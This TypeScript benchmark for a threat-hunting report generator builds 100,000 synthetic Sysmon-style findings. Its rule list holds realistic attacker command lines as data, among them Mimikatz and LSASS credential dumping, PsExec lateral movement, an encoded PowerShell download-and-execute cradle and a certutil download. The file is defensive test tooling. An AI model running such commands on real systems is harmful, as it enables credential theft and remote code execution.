/**
 * Report benchmark: 100,000 synthetic findings (Sysmon- and IIS-shaped events over 60 hosts and
 * 30 rules, seeded, with per-event unique GUIDs, PIDs and record numbers) written as the HTML
 * report, the CSV timeline and the Navigator layer. Prints file size, time and peak RSS.
 *
 *   node dist/bench/report.js [count]      (in-process)
 *   runReportBench()                       (from bench/run.ts; measures in a child process so the
 *                                           peak RSS is the report's alone)
 */
import { execFile } from 'node:child_process';
import { createWriteStream, existsSync, mkdirSync, statSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import type { Finding, Level } from '../src/findings/finding.js';
import { LEVELS } from '../src/findings/finding.js';
import type { FindingSink, SinkTarget } from '../src/findings/sink.js';
import type { HuntSummary } from '../src/findings/summary.js';
import { createHtmlReportSink, createNavigatorSink, createTimelineSink } from '../src/report/index.js';
import { seededRandom as mulberry32 } from '../scripts/seeded-random.js';

const here = fileURLToPath(import.meta.url);
const repoRoot = path.resolve(path.dirname(here), '..', '..');
const outDir = path.join(repoRoot, 'test-output', 'report');

interface RuleSpec { id: string; title: string; level: Level; attack: string[]; weight: number; image: string; parent: string; cmd: (r: () => number) => string }

const RULES: RuleSpec[] = [];
const TOOLS: Array<[string, Level, string[], string, (r: () => number) => string]> = [
  ['Web server process spawned a command shell', 'high', ['T1505.003', 'T1059.003'], 'C:\\Windows\\System32\\cmd.exe', (r) => `cmd.exe /c ${['whoami', 'ipconfig /all', 'netstat -ano', 'query user', 'dir c:\\inetpub'][Math.floor(r() * 5)]}`],
  ['Mimikatz credential dumping command line', 'critical', ['T1003.001'], 'C:\\ProgramData\\m64.exe', () => 'm64.exe "privilege::debug" "sekurlsa::logonpasswords" exit'],
  ['Procdump of LSASS memory', 'critical', ['T1003.001'], 'C:\\Windows\\Temp\\pd64.exe', (r) => `pd64.exe -accepteula -ma lsass.exe c:\\windows\\temp\\${Math.floor(r() * 1e6).toString(36)}.dmp`],
  ['PsExec started against a remote host', 'high', ['T1570', 'T1569.002'], 'C:\\ProgramData\\pe.exe', (r) => `pe.exe -accepteula \\\\SRV${Math.floor(r() * 60)} -s cmd /c c:\\windows\\temp\\a.bat`],
  ['WinRAR archive with password', 'high', ['T1560.001'], 'C:\\$Recycle.Bin\\r.exe', (r) => `r.exe a -hpP@ss${Math.floor(r() * 100)} -v200m c:\\$Recycle.Bin\\${Math.floor(r() * 1e5)}.rar d:\\cdr`],
  ['HTRAN-style relay arguments', 'high', ['T1090.002'], 'C:\\Windows\\Temp\\svch.exe', (r) => `svch.exe -tran 443 45.76.${Math.floor(r() * 255)}.${Math.floor(r() * 255)} 8080`],
  ['Discovery commands', 'medium', ['T1033', 'T1016', 'T1049'], 'C:\\Windows\\System32\\whoami.exe', (r) => ['whoami /all', 'whoami /priv', 'whoami'][Math.floor(r() * 3)]!],
  ['Scheduled task created as SYSTEM', 'medium', ['T1053.005'], 'C:\\Windows\\System32\\schtasks.exe', (r) => `schtasks /create /tn Update${Math.floor(r() * 1000)} /tr c:\\programdata\\u.exe /sc minute /ru system`],
  ['Renamed cmd.exe', 'medium', ['T1036.003'], 'C:\\Windows\\Temp\\c.exe', () => 'c.exe /c echo ok'],
  ['PowerShell encoded command', 'medium', ['T1059.001', 'T1027'], 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', (r) => `powershell -nop -w hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.${Math.floor(r() * 255)}/a')`).toString('base64')}`],
  ['Net user and group enumeration', 'low', ['T1087.002', 'T1069.002'], 'C:\\Windows\\System32\\net.exe', (r) => ['net group "domain admins" /domain', 'net user /domain', 'net localgroup administrators'][Math.floor(r() * 3)]!],
  ['Service installed from a temp folder', 'high', ['T1543.003'], 'C:\\Windows\\System32\\sc.exe', (r) => `sc create svc${Math.floor(r() * 100)} binpath= c:\\windows\\temp\\s.exe`],
  ['Certutil download', 'medium', ['T1105'], 'C:\\Windows\\System32\\certutil.exe', (r) => `certutil -urlcache -split -f http://203.0.113.${Math.floor(r() * 255)}/t.exe c:\\programdata\\t.exe`],
  ['Rundll32 without arguments', 'low', ['T1218.011'], 'C:\\Windows\\System32\\rundll32.exe', () => 'rundll32.exe'],
  ['Console host with rare parent', 'informational', [], 'C:\\Windows\\System32\\conhost.exe', () => 'conhost.exe 0xffffffff -ForceV1'],
];
for (let i = 0; i < 30; i++) {
  const [title, level, attack, image, cmd] = TOOLS[i % TOOLS.length]!;
  RULES.push({
    id: `bench-rule-${i}`, title: i < TOOLS.length ? title : `${title} (variant ${i - TOOLS.length + 1})`, level, attack, image, cmd,
    parent: i % 3 === 0 ? 'C:\\Windows\\System32\\inetsrv\\w3wp.exe' : 'C:\\Windows\\System32\\cmd.exe',
    // A few noisy rules, many quiet ones.
    weight: i % 7 === 0 ? 40 : i % 3 === 0 ? 6 : 1,
  });
}

export function* syntheticFindings(count: number, seed = 5): Generator<Finding> {
  const rand = mulberry32(seed);
  const totalWeight = RULES.reduce((a, r) => a + r.weight, 0);
  const hosts = Array.from({ length: 60 }, (_, i) => (i < 4 ? `WEB${String(i + 1).padStart(2, '0')}` : i < 8 ? `DC${String(i - 3).padStart(2, '0')}` : `SRV${String(i).padStart(3, '0')}`));
  let t = Date.parse('2019-03-01T00:00:00Z');
  for (let i = 0; i < count; i++) {
    t += Math.floor(rand() * 4000);
    let pick = rand() * totalWeight;
    let rule = RULES[0]!;
    for (const r of RULES) { pick -= r.weight; if (pick <= 0) { rule = r; break; } }
    const host = hosts[Math.floor(Math.pow(rand(), 2) * hosts.length)]!;
    const record = 100000 + i * 3 + Math.floor(rand() * 3);
    const ts = new Date(t).toISOString();
    const cmd = rule.cmd(rand);
    yield {
      ts,
      detector: 'sigma',
      rule: { id: rule.id, title: rule.title, level: rule.level },
      attack: rule.attack,
      host,
      source: { path: `collect/${host.toLowerCase()}/Microsoft-Windows-Sysmon%4Operational.evtx`, record, format: 'evtx' },
      matched: { Image: rule.image, CommandLine: cmd },
      event: {
        EventID: 1, Channel: 'Microsoft-Windows-Sysmon/Operational', Provider_Name: 'Microsoft-Windows-Sysmon', Computer: `${host}.corp.example`,
        TimeCreated: ts, EventRecordID: record, UtcTime: ts.replace('T', ' ').replace('Z', ''),
        ProcessGuid: `{5770385f-${(i & 0xffff).toString(16).padStart(4, '0')}-5c7d-${Math.floor(rand() * 65536).toString(16).padStart(4, '0')}-00108a3c1e00}`,
        ProcessId: 1000 + Math.floor(rand() * 60000), Image: rule.image, FileVersion: '10.0.17763.1', Description: 'Windows Command Processor',
        Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation', OriginalFileName: rule.image.split('\\').pop(),
        CommandLine: cmd, CurrentDirectory: 'C:\\Windows\\system32\\', User: rule.parent.includes('w3wp') ? 'IIS APPPOOL\\DefaultAppPool' : 'CORP\\svc_backup',
        LogonGuid: '{5770385f-0000-5c7d-0000-0020e7030000}', LogonId: '0x3e7', TerminalSessionId: 0, IntegrityLevel: 'High',
        Hashes: `SHA1=${Math.floor(rand() * 2 ** 52).toString(16).padStart(40, '0')},MD5=${Math.floor(rand() * 2 ** 52).toString(16).padStart(32, '0')}`,
        ParentProcessGuid: '{5770385f-1111-5c7d-0000-00108a3c1e00}', ParentProcessId: 2000 + Math.floor(rand() * 100),
        ParentImage: rule.parent, ParentCommandLine: rule.parent.includes('w3wp') ? 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool"' : 'cmd.exe',
      },
    };
  }
}

function summaryOf(count: number, byLevel: Record<Level, number>, byRule: Map<string, number>, first: string, last: string, elapsedMs: number): HuntSummary {
  return {
    tool: { name: 'cellwatch', version: 'bench' },
    startedAt: new Date().toISOString(),
    elapsedMs,
    inputs: Array.from({ length: 60 }, (_, i) => ({ path: `collect/host${i}/Microsoft-Windows-Sysmon%4Operational.evtx`, format: 'evtx', events: 250_000, bytes: 268_435_456, problems: 0 })),
    skippedInputs: [],
    events: 15_000_000,
    badRecords: 0,
    problems: [],
    firstEvent: first,
    lastEvent: last,
    rules: { sigma: 2000, indicators: 500 },
    findings: count,
    byLevel,
    byRule: RULES.filter((r) => byRule.has(r.id)).map((r) => ({ id: r.id, title: r.title, level: r.level, detector: 'sigma', count: byRule.get(r.id)! })),
  };
}

async function timeSink(name: string, file: string, make: (t: SinkTarget) => FindingSink, count: number): Promise<{ name: string; ms: number; bytes: number; rssMb: number }> {
  const stream = createWriteStream(file);
  const sink = make({ stream, isTTY: false });
  const byLevel = Object.fromEntries(LEVELS.map((l) => [l, 0])) as Record<Level, number>;
  const byRule = new Map<string, number>();
  let first = '';
  let last = '';
  const start = performance.now();
  for (const f of syntheticFindings(count)) {
    sink.write(f);
    byLevel[f.rule.level]++;
    byRule.set(f.rule.id, (byRule.get(f.rule.id) ?? 0) + 1);
    if (!first) first = f.ts;
    last = f.ts;
  }
  await sink.close(summaryOf(count, byLevel, byRule, first, last, performance.now() - start));
  await new Promise<void>((resolve, reject) => stream.end((err?: Error | null) => (err ? reject(err) : resolve())));
  const ms = performance.now() - start;
  return { name, ms, bytes: statSync(file).size, rssMb: process.resourceUsage().maxRSS / 1024 };
}

/** Measure in this process and print a markdown table. */
export async function measureReports(count = 100_000): Promise<void> {
  mkdirSync(outDir, { recursive: true });
  const baseline = process.resourceUsage().maxRSS / 1024;
  const rows = [
    await timeSink('html report', path.join(outDir, 'bench-report.html'), (t) => createHtmlReportSink(t), count),
    await timeSink('timeline csv', path.join(outDir, 'bench-timeline.csv'), (t) => createTimelineSink(t, 'csv'), count),
    await timeSink('navigator layer', path.join(outDir, 'bench-layer.json'), (t) => createNavigatorSink(t), count),
  ];
  console.log(`\n## Reports: ${count.toLocaleString('en-US')} synthetic findings (60 hosts, 30 rules; generation included)\n`);
  console.log('| output | file size | time | peak RSS (process) |');
  console.log('| --- | ---: | ---: | ---: |');
  for (const r of rows) console.log(`| ${r.name} | ${(r.bytes / 1048576).toFixed(2)} MB | ${(r.ms / 1000).toFixed(2)} s | ${r.rssMb.toFixed(0)} MB |`);
  console.log(`\nRSS before the first sink: ${baseline.toFixed(0)} MB. Files in ${path.relative(repoRoot, outDir)}/.`);
  await measureInBrowser(path.join(outDir, 'bench-report.html'));
}

/**
 * Open the 100k report in chromium (when installed) and time what an analyst does: load and draw,
 * filter by level, search text, sort a column.
 */
async function measureInBrowser(file: string): Promise<void> {
  const executablePath = '/usr/bin/chromium';
  if (!existsSync(executablePath)) {
    console.log(`\nBrowser timings skipped: ${executablePath} is absent.`);
    return;
  }
  const { chromium } = await import('playwright-core');
  const browser = await chromium.launch({ executablePath, args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-quic', '--no-first-run', '--disable-component-update', '--disable-sync'] });
  try {
    const page = await (await browser.newContext({ viewport: { width: 1400, height: 1000 } })).newPage();
    const shown = async (): Promise<string | null> => page.locator('#f-count').getAttribute('data-shown');
    const timed = async (what: string, act: () => Promise<unknown>): Promise<string> => {
      const t = performance.now();
      await act();
      return `| ${what} | ${(performance.now() - t).toFixed(0)} ms | ${await shown()} |`;
    };
    const rows = [
      await timed('open the file and draw every view', async () => {
        await page.goto(pathToFileURL(file).href);
        await page.waitForSelector('body[data-ready="1"]', { timeout: 300_000 });
      }),
      await timed('level filter: high and above', () => page.selectOption('#f-level', '3')),
      await timed('sort by rule', () => page.click('#f-head > div[data-key="rule"]')),
      await timed('free text "srv017" (after the 200 ms typing pause)', async () => {
        const before = await shown();
        await page.fill('#f-text', 'srv017');
        await page.waitForTimeout(200);
        for (let i = 0; i < 600 && (await shown()) === before; i++) await page.waitForTimeout(10);
      }),
    ];
    console.log('\n| in chromium | time | rows shown |\n| --- | ---: | ---: |');
    for (const r of rows) console.log(r);
  } finally {
    await browser.close();
  }
}

/** From bench/run.ts: run the measurement in a child process so its peak RSS is its own. */
export async function runReportBench(count = 100_000): Promise<void> {
  const { stdout } = await promisify(execFile)(process.execPath, [here, String(count)], { maxBuffer: 1 << 20 });
  process.stdout.write(stdout);
}

if (process.argv[1] && pathToFileURL(path.resolve(process.argv[1])).href === import.meta.url) {
  const n = Number(process.argv[2] ?? 100_000);
  await measureReports(Number.isFinite(n) && n > 0 ? n : 100_000);
}
